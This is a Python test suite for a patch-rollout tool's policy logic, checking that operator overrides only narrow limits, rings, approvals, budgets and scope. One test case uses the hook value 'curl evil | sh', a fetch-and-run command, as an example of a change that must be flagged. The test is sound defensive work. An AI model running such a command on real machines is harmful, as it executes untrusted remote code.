"""An operator's overrides only narrow a policy: each field has a rule, and no rule lets any bound grow."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Any, get_args

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel

from patchwave.domain.core.ids import MachineId
from patchwave.domain.core.quantity import capacity, portion
from patchwave.domain.planning.rings import choose_rings
from patchwave.domain.planning.topology import PlannerMachine
from patchwave.domain.policy.narrowing import RULES, narrows, widened
from patchwave.domain.policy.policy import Policy, PolicyError, apply_overrides, parse_policy
from patchwave.domain.policy.rollout import order_rings

SUBSCRIPTIONS = ["11111111-1111-1111-1111-111111111111", "22222222-2222-2222-2222-222222222222"]
FULL: dict[str, Any] = {
    "name": "monthly",
    "scope": {"subscriptions": SUBSCRIPTIONS, "tags": {"values": {"env": ["test", "live"]}}},
    "maxConcurrent": 20,
    "limits": {"region": "20%", "tags": [{"tag": "app", "maxConcurrent": 2}]},
    "rings": [
        {"name": "canary", "tags": {"values": {"ring": ["canary"]}}},
        {"name": "broad", "approval": {"within": "PT4H", "requireSecondPerson": True}, "bake": "PT1H"},
    ],
    "bake": {"rings": "PT1H"},
    "errorBudget": {"run": "10%"},
    "hooks": {"snapshot": {}, "before": {"linux": "exit 0"}},
    "health": {"alerts": {"severities": ["Sev0"], "rules": ["cpu"]}, "settle": "PT15M"},
    "schedule": {"recurrence": "last Friday", "time": "22:00", "timeZone": "UTC", "window": "PT4H"},
    "install": {"linux": {"classificationsToInclude": ["Security"], "packageNameMasksToExclude": ["kernel*"]}},
    "notifications": {"channels": ["ops"]},
}
PLAIN: dict[str, Any] = {"name": "monthly", "scope": FULL["scope"]}

NARROWER: dict[str, dict[str, Any]] = {
    "nothing": {},
    "fewer at a time": {"maxConcurrent": 5, "limits": {"region": "10%"}},
    "a further limit": {"limits": {"tags": [{"tag": "APP", "maxConcurrent": 1}, {"tag": "x", "maxConcurrent": 1}]}},
    "a shorter window": {"schedule": {"window": "PT2H"}},
    "a shorter installation": {"install": {"maximumDuration": "PT1H30M", "minimumDuration": "PT1H15M"}},
    "fewer patches": {"install": {"linux": {"packageNameMasksToExclude": ["kernel*", "nginx"]}}},
    "older patches": {"install": {"approvalDelayDays": 7}},
    "no restart": {"install": {"rebootSetting": "Never"}},
    "a smaller budget": {"errorBudget": {"run": "5%", "lane": 1, "onExceeded": "end"}},
    "more alerts that count": {"health": {"alerts": {"severities": ["Sev0", "Sev1"], "rules": []}}},
    "less time to settle": {"health": {"settle": "PT5M"}},
    "an assessment": {"mode": "assess"},
    "events later": {"events": {"delay": "PT1H"}},
    "slower": {"ramp": True, "bake": {"rings": "PT2H", "waves": "PT5M"}},
}
SMALLER_SCOPES: dict[str, dict[str, Any]] = {
    "fewer machines by name": {"scope": {"subscriptions": SUBSCRIPTIONS[:1]}},
    "fewer machines by tag": {"scope": {"tags": {"values": {"env": ["test"], "app": ["shop"]}}}},
    "one more selector": {"scope": {"locations": ["westeurope"], "osTypes": ["Linux"]}},
    "an exclusion": {"scope": {"exclude": {"tags": {"values": {"tier": ["db"]}}}}},
}
WIDER: dict[str, tuple[dict[str, Any], str]] = {
    "patches on events": ({"events": {"mode": "patch"}}, "events.mode"),
    "events at any time": ({"events": {"onlyInWindow": False}}, "events.onlyInWindow"),
    "more at a time": ({"maxConcurrent": 21}, "maxConcurrent"),
    "a share for a number": ({"maxConcurrent": "1%"}, "maxConcurrent"),
    "a limit dropped": ({"limits": {"tags": []}}, "limits.tags"),
    "an approval dropped": ({"rings": [FULL["rings"][0], {"name": "broad", "bake": "PT1H"}]}, "rings"),
    "rings dropped": ({"rings": None}, "rings"),
    "a gate dropped": ({"health": {"enabled": False}}, "health.enabled"),
    "alerts dropped": ({"health": {"alerts": None}}, "health.alerts"),
    "a probe added": ({"health": {"probe": {"url": "https://probe.example.org/"}}}, "health.probe"),
    "a script added": ({"hooks": {"after": {"linux": "reboot"}}}, "hooks"),
    "a script changed": ({"hooks": {"before": {"linux": "curl evil | sh"}}}, "hooks"),
    "a snapshot dropped": ({"hooks": {"snapshot": None}}, "hooks"),
    "a longer window": ({"schedule": {"window": "PT5H"}}, "schedule.window"),
    "another window": ({"schedule": {"time": "21:00"}}, "schedule.time"),
    "more patches": ({"install": {"linux": {"classificationsToInclude": ["Critical", "Security"]}}},
                     "install.linux.classificationsToInclude"),
    "an exclusion dropped": ({"install": {"linux": {"packageNameMasksToExclude": []}}},
                             "install.linux.packageNameMasksToExclude"),
    "later starts": ({"install": {"maximumDuration": "PT30M"}}, "install.maximumDuration"),
    "a larger budget": ({"errorBudget": {"run": "20%"}}, "errorBudget.run"),
    "stopped machines": ({"startStopped": True}, "startStopped"),
    "no notifications": ({"notifications": {"channels": []}}, "notifications"),
    "another description": ({"description": "harmless"}, "description"),
}  # fmt: skip


@pytest.mark.parametrize("overrides", NARROWER.values(), ids=NARROWER)
def test_what_makes_a_run_do_less_narrows(overrides: dict[str, Any]) -> None:
    before = parse_policy(FULL)
    assert widened(before, apply_overrides(FULL, overrides)) == {}
    assert narrows(before, apply_overrides(FULL, overrides))


WIDER_SCOPES: dict[str, tuple[dict[str, Any], str]] = {
    "more machines": ({"subscriptions": None}, "scope.subscriptions"),
    "another tag value": ({"tags": {"values": {"env": ["test", "dev"]}}}, "scope.tags"),
    "any tag instead of all": ({"tags": {"match": "any", "values": {"app": ["x"]}}}, "scope.tags"),
}


@pytest.mark.parametrize(("scope", "path"), WIDER_SCOPES.values(), ids=WIDER_SCOPES)
def test_a_scope_with_more_machines_is_named(scope: dict[str, Any], path: str) -> None:
    assert list(widened(parse_policy(PLAIN), apply_overrides(PLAIN, {"scope": scope}))) == [path]
    before, after = parse_policy(FULL), apply_overrides(FULL, {"scope": scope})
    assert list(widened(before, after)) == [path, "scope"], "and the rings of this one wait"


@pytest.mark.parametrize(("overrides", "path"), WIDER.values(), ids=WIDER)
def test_what_may_make_a_run_do_more_is_named(overrides: dict[str, Any], path: str) -> None:
    before, after = parse_policy(FULL), apply_overrides(FULL, overrides)
    assert list(widened(before, after)) == [path]
    assert not narrows(before, after)


@pytest.mark.parametrize(
    ("overrides", "reasons"),
    [
        ({"maxConcurrent": 21}, {"maxConcurrent": "21 is more than 20"}),
        ({"maxConcurrent": "1%"}, {"maxConcurrent": "a number and a per cent are not compared"}),
        ({"limits": {"region": 1}}, {"limits.region": "a number and a per cent are not compared"}),
        ({"errorBudget": {"run": "20%"}}, {"errorBudget.run": "20% is more than 10%"}),
        ({"install": {"approvalDelayDays": 2}}, {"install.approvalDelayDays": "2 is less than 7"}),
        # Neither a word nor an amount that a rule compares: that it does not narrow is all there is to say.
        ({"description": "100%"}, {"description": "does not narrow the policy"}),
        ({"schedule": {"window": "PT5H"}}, {"schedule.window": "does not narrow the policy"}),
        ({"health": {"enabled": False}}, {"health.enabled": "does not narrow the policy"}),
    ],
)
def test_the_reason_why_a_value_does_not_narrow_is_given(overrides: dict[str, Any], reasons: dict[str, str]) -> None:
    given = FULL | {"description": "50%", "install": FULL["install"] | {"approvalDelayDays": 7}}
    assert widened(parse_policy(given), apply_overrides(given, overrides)) == reasons


def test_an_approval_may_be_added_and_be_stricter() -> None:
    rings = [
        {**FULL["rings"][0], "approval": {"requireSecondPerson": True}},
        {"name": "broad", "approval": {"within": "PT2H", "requireSecondPerson": True}, "bake": "PT3H"},
    ]
    assert widened(parse_policy(FULL), apply_overrides(FULL, {"rings": rings})) == {}
    assert widened(apply_overrides(FULL, {"rings": rings}), parse_policy(FULL)) == {
        "rings": "does not narrow the policy"
    }


TAGGED: dict[str, Any] = {"name": "canary", "tags": {"values": {"ring": ["canary"]}}}
SHARE: dict[str, Any] = {"name": "canary", "percent": 5}
REST: dict[str, Any] = {"name": "rest"}
WAITING: dict[str, dict[str, Any]] = {
    "a bake time of the canary": {"rings": [TAGGED | {"bake": "PT24H"}, REST]},
    "a bake time of all rings": {"rings": [TAGGED, REST], "bake": {"rings": "PT1H"}},
    "a bake time of the first one by after": {"rings": [REST | {"after": "canary"}, TAGGED | {"bake": "PT1M"}]},
    "a budget of rings": {"rings": [TAGGED, REST], "errorBudget": {"ring": 0, "onExceeded": "end"}},
    "a budget of the run": {"rings": [TAGGED, REST], "errorBudget": {"run": "10%"}},
    "a budget of lanes": {"rings": [TAGGED, REST], "errorBudget": {"lane": 1}},
    "a budget of waves": {"rings": [TAGGED, REST], "errorBudget": {"wave": 1}},
    "an approval": {"rings": [TAGGED, REST | {"approval": {}}]},
    "an approval of the canary": {"rings": [TAGGED | {"approval": {}}, REST]},
    "pins": {"rings": [TAGGED, REST], "pinRings": True},
    "pins, and more without one": {"rings": [TAGGED, REST], "pinRings": True, "withoutPin": "install"},
    "a share with a bake time": {"rings": [SHARE | {"bake": "PT1H"}, REST]},
    "a share alone": {"rings": [SHARE]},
    "shares that leave machines out": {"rings": [SHARE, {"name": "few", "percent": 10}]},
    "phases in an order, with a budget": {"phases": [["westeurope"], ["northeurope"]], "errorBudget": {"lane": 1}},
}
"""What makes later machines wait for earlier ones, or keeps machines out."""
FREE: dict[str, dict[str, Any]] = {
    "phases without a budget": {"phases": [["westeurope"], ["northeurope"]]},
    "no rings": {"errorBudget": {"run": 0, "lane": 1}, "bake": {"waves": "PT1H", "rings": "PT1H"}},
    "one ring": {"rings": [REST | {"approval": {}, "bake": "PT1H"}], "errorBudget": {"ring": 1}},
    "rings that only have an order": {"rings": [TAGGED, REST]},
    "a share that only comes first": {"rings": [SHARE, REST]},
    "no bake time but after the last": {"rings": [TAGGED | {"bake": "PT0M"}, REST | {"bake": "PT1H"}]},
}


@pytest.mark.parametrize("overrides", SMALLER_SCOPES.values(), ids=SMALLER_SCOPES)
@pytest.mark.parametrize("rollout", WAITING.values(), ids=WAITING)
def test_a_scope_does_not_change_under_rings_that_wait(rollout: dict[str, Any], overrides: dict[str, Any]) -> None:
    """Without its machines the canary has nothing to judge; a share takes the only machine of a scope."""
    given = PLAIN | rollout
    assert widened(parse_policy(given), apply_overrides(given, overrides)).keys() == {"scope"}
    assert widened(parse_policy(given), apply_overrides(given, overrides), installs=False) == {}


@pytest.mark.parametrize("overrides", SMALLER_SCOPES.values(), ids=SMALLER_SCOPES)
@pytest.mark.parametrize("rollout", FREE.values(), ids=FREE)
def test_a_smaller_scope_narrows_where_no_ring_waits(rollout: dict[str, Any], overrides: dict[str, Any]) -> None:
    given = PLAIN | rollout
    assert widened(parse_policy(given), apply_overrides(given, overrides)) == {}


def test_an_assessment_widens_nothing_else() -> None:
    given = PLAIN | WAITING["a bake time of the canary"]
    wider = apply_overrides(given, {"scope": {"subscriptions": None}, "maxConcurrent": 1_000})
    assert list(widened(parse_policy(given), wider, installs=False)) == ["scope.subscriptions", "maxConcurrent"]


def test_a_field_without_a_rule_does_not_narrow(monkeypatch: pytest.MonkeyPatch) -> None:
    before, after = parse_policy(FULL), apply_overrides(FULL, {"maxConcurrent": 5})
    rules = {name: rule for name, rule in RULES[Policy].items() if name != "max_concurrent"}
    monkeypatch.setattr("patchwave.domain.policy.narrowing.RULES", {**RULES, Policy: rules})
    assert widened(before, after) == {"maxConcurrent": "does not narrow the policy"}


# --- every field has a rule -----------------------------------------------------------------------------------


def sections_of(annotation: Any) -> Iterator[type[BaseModel]]:
    """The documents that a type is made of."""
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        yield annotation
    for part in get_args(getattr(annotation, "__value__", annotation)):
        yield from sections_of(part)


@pytest.mark.parametrize("model", RULES, ids=lambda model: model.__name__)
def test_every_field_is_classified(model: type[BaseModel]) -> None:
    assert RULES[model].keys() == model.model_fields.keys()
    for name, rule in RULES[model].items():
        if isinstance(rule, type):
            # The type of the values, so that no field of a section is compared by the rules of another one.
            assert list(sections_of(model.model_fields[name].annotation)) == [rule], name
            assert rule in RULES


# --- no bound grows -------------------------------------------------------------------------------------------

REGIONS = ["westeurope", "northeurope"]
MACHINES = [
    PlannerMachine(
        id=(
            f"/subscriptions/{SUBSCRIPTIONS[number % 2]}/resourceGroups/rg-{number % 3}"
            f"/providers/Microsoft.Compute/virtualMachines/vm-{number}"
        ),
        key=f"{number:024x}",
        location=REGIONS[number // 2 % 2],
        os_type=["Linux", "Windows"][number % 2],
        tags={"env": ["test", "live", "dev"][number % 3], "app": ["shop", "bank"][number // 3 % 2]},
    )
    for number in range(24)
]


def some(*values: Any) -> st.SearchStrategy[Any]:
    return st.sampled_from(values)


def sections(**members: st.SearchStrategy[Any]) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries({}, optional=members)


TAGS = st.fixed_dictionaries(
    {
        "match": some("all", "any"),
        "values": st.dictionaries(
            some("env", "app", "ENV"),
            st.lists(some("test", "live", "shop", "TEST"), min_size=1),
            min_size=1,
            max_size=2,
        ),
    }
)
SHARES = some(1, 2, 20, "1%", "20%", "100%")
IDS = st.lists(some(*[machine.id for machine in MACHINES[:6]]), max_size=3)
SCOPES = st.fixed_dictionaries(
    {"subscriptions": st.lists(some(*SUBSCRIPTIONS), min_size=1)},
    optional={
        "resourceGroups": st.lists(some("rg-0", "RG-1", "rg-2"), max_size=2),
        "locations": st.lists(some(*REGIONS), max_size=2),
        "osTypes": st.lists(some("Linux", "Windows"), max_size=2),
        "tags": TAGS,
        "machineIds": IDS,
        "exclude": sections(
            resourceGroups=st.lists(some("rg-0", "rg-1"), max_size=1),
            locations=st.lists(some(*REGIONS), max_size=1),
            tags=TAGS,
            machineIds=IDS,
        ),
    },
)
APPROVALS = sections(within=some("PT1H", "PT4H"), requireSecondPerson=st.booleans())
RINGS = some(
    [],
    [{"name": "canary", "percent": 10}, {"name": "broad"}],
    [{"name": "canary", "tags": {"values": {"app": ["shop"]}}}, {"name": "broad"}],
)
FIELDS: dict[str, st.SearchStrategy[Any]] = {
    "scope": SCOPES,
    "maxConcurrent": SHARES,
    "limits": sections(
        region=SHARES,
        tags=st.lists(st.fixed_dictionaries({"tag": some("app", "env"), "maxConcurrent": SHARES}), max_size=2),
    ),
    "mutuallyExclusiveTag": some(None, "app"),
    "rings": st.builds(
        lambda rings, approvals: [
            ring | ({"approval": approval} if approval is not None else {})
            for ring, approval in zip(rings, approvals, strict=False)
        ],
        RINGS,
        st.tuples(st.none() | APPROVALS, st.none() | APPROVALS),
    ),
    "bake": sections(waves=some("PT0M", "PT5M"), rings=some("PT0M", "PT1H")),
    "ramp": st.booleans(),
    "separateZones": st.booleans(),
    "startStopped": st.booleans(),
    "pinRings": st.booleans(),
    "withoutPin": some("skip", "wait", "install"),
    "errorBudget": sections(run=SHARES, ring=SHARES, lane=SHARES, onExceeded=some("hold", "end")),
    "health": sections(
        enabled=st.booleans(),
        settle=some("PT5M", "PT15M"),
        alerts=sections(severities=st.lists(some("Sev0", "Sev1"), min_size=1), firedWithin=some("PT1H", "PT2H")),
    ),
    "hooks": sections(snapshot=st.just({}), before=st.just({"linux": "exit 0"})),
    "install": sections(
        maximumDuration=some("PT30M", "PT1H", "PT2H"),
        minimumDuration=some("PT20M", "PT1H", "PT90M"),
        approvalDelayDays=some(0, 7),
        windows=st.fixed_dictionaries({"classificationsToInclude": some(["Critical"], ["Critical", "Security"])}),
    ),
}
POLICIES = st.fixed_dictionaries(
    {"scope": SCOPES}, optional={name: field for name, field in FIELDS.items() if name != "scope"}
)
OVERRIDES = st.dictionaries(some(*FIELDS), st.none(), min_size=1, max_size=3).flatmap(
    lambda chosen: st.fixed_dictionaries({name: st.none() | FIELDS[name] for name in chosen})
)


def per_ring(policy: Policy) -> dict[str, tuple[bool, bool]]:
    """By machine in scope whether its ring waits for an approval, and for that of another person."""
    held = [
        each
        for each in MACHINES
        if policy.scope.holds(MachineId.parse(each.id), location=each.location, os_type=each.os_type, tags=each.tags)
    ]
    ordered = order_rings(policy.rings)
    approvals = {key: ordered[choice.number].approval for key, choice in choose_rings(held, ordered).items()}
    return {
        key: (asked is not None, asked is not None and asked.require_second_person) for key, asked in approvals.items()
    }


def sizes(policy: Policy) -> Iterator[tuple[str, float]]:
    """Bounds of the policy as numbers that may shrink and never grow; those that it has not are infinite."""
    for machines in (1, 3, 10, 1_000):
        limits = {"run": policy.max_concurrent, "region": policy.limits.region}
        for name, limit in limits.items():
            yield f"{name} of {machines}", float("inf") if limit is None else capacity(limit, machines)
        for tag in ("app", "env"):
            found = [capacity(each.max_concurrent, machines) for each in policy.limits.tags if each.tag == tag]
            yield f"{tag} of {machines}", min(found, default=float("inf"))
        for level in ("run", "ring", "lane"):
            share = getattr(policy.error_budget, level)
            yield f"budget of {level} of {machines}", float("inf") if share is None else portion(share, machines)
    install = policy.install
    yield "longest installation", install.maximum_duration.total_seconds()
    yield "latest start", -min(install.maximum_duration, install.minimum_duration).total_seconds()
    yield "delay", -install.approval_delay_days
    yield "settle", policy.health.settle.total_seconds()
    yield "health", -policy.health.enabled
    alerts = policy.health.alerts
    yield "alerts", -len(alerts.severities) if alerts else 1
    yield "alert age", -alerts.fired_within.total_seconds() if alerts else 1
    yield "zones", -policy.separate_zones
    yield "ramp", -policy.ramp
    yield "power", policy.start_stopped
    yield "tag", -bool(policy.mutually_exclusive_tag)
    yield "pins", -policy.pin_rings
    yield "wave bake", -(policy.bake.waves.total_seconds() if policy.bake.waves is not None else -1)
    for ring in policy.rings:
        yield f"bake of {ring.name}", -policy.bake_after(ring).total_seconds()


# Few random overrides narrow, so that many are drawn for each that is held.
@settings(max_examples=500, suppress_health_check=[HealthCheck.filter_too_much])
@given(POLICIES, OVERRIDES)
def test_a_narrowing_override_never_enlarges_any_bound(given: dict[str, Any], overrides: dict[str, Any]) -> None:
    try:
        before = parse_policy({"name": "monthly", **given})
        after = apply_overrides(before.to_wire(), overrides)
    except PolicyError:
        assume(False)
        raise
    assume(narrows(before, after))
    grown = [name for (name, old), (_, new) in zip(sizes(before), sizes(after), strict=True) if new > old]
    assert not grown
    rings_before, rings_after = per_ring(before), per_ring(after)
    budgets = [getattr(before.error_budget, level) for level in ("run", "ring", "lane")]
    if before.rings and (before.pin_rings or before.bake_after(before.rings[0]) or budgets != [None] * 3):
        assert rings_after.keys() == rings_before.keys(), "a canary without machines holds nothing"
    assert rings_after.keys() <= rings_before.keys()
    for key, asked in rings_after.items():
        assert all(new >= old for new, old in zip(asked, rings_before[key], strict=True))
    assert (after.hooks, after.health.probe, after.maintenance) == (
        before.hooks,
        before.health.probe,
        before.maintenance,
    )
    assert set(after.install.windows.classifications_to_include) <= set(
        before.install.windows.classifications_to_include
    )


@settings(max_examples=100)
@given(POLICIES)
def test_a_policy_narrows_itself(given: dict[str, Any]) -> None:
    try:
        policy = parse_policy({"name": "monthly", **given})
    except PolicyError:
        assume(False)
        raise
    assert narrows(policy, policy)


TAG_FILTERS = st.fixed_dictionaries({"env": st.none() | TAGS, "not": st.none() | TAGS}).map(
    lambda given: {
        "osTypes": ["Linux", "Windows"],
        **({"tags": given["env"]} if given["env"] else {}),
        **({"exclude": {"tags": given["not"]}} if given["not"] else {}),
    }
)


@settings(max_examples=500)
@given(TAG_FILTERS, TAG_FILTERS)
def test_a_narrower_filter_of_tags_holds_no_further_machine(one: dict[str, Any], other: dict[str, Any]) -> None:
    try:
        policies = [parse_policy({"name": "monthly", "scope": scope}) for scope in (one, other)]
    except PolicyError:
        assume(False)
        raise
    for before, after in itertools.permutations(policies):
        if narrows(before, after):
            assert per_ring(after).keys() <= per_ring(before).keys()
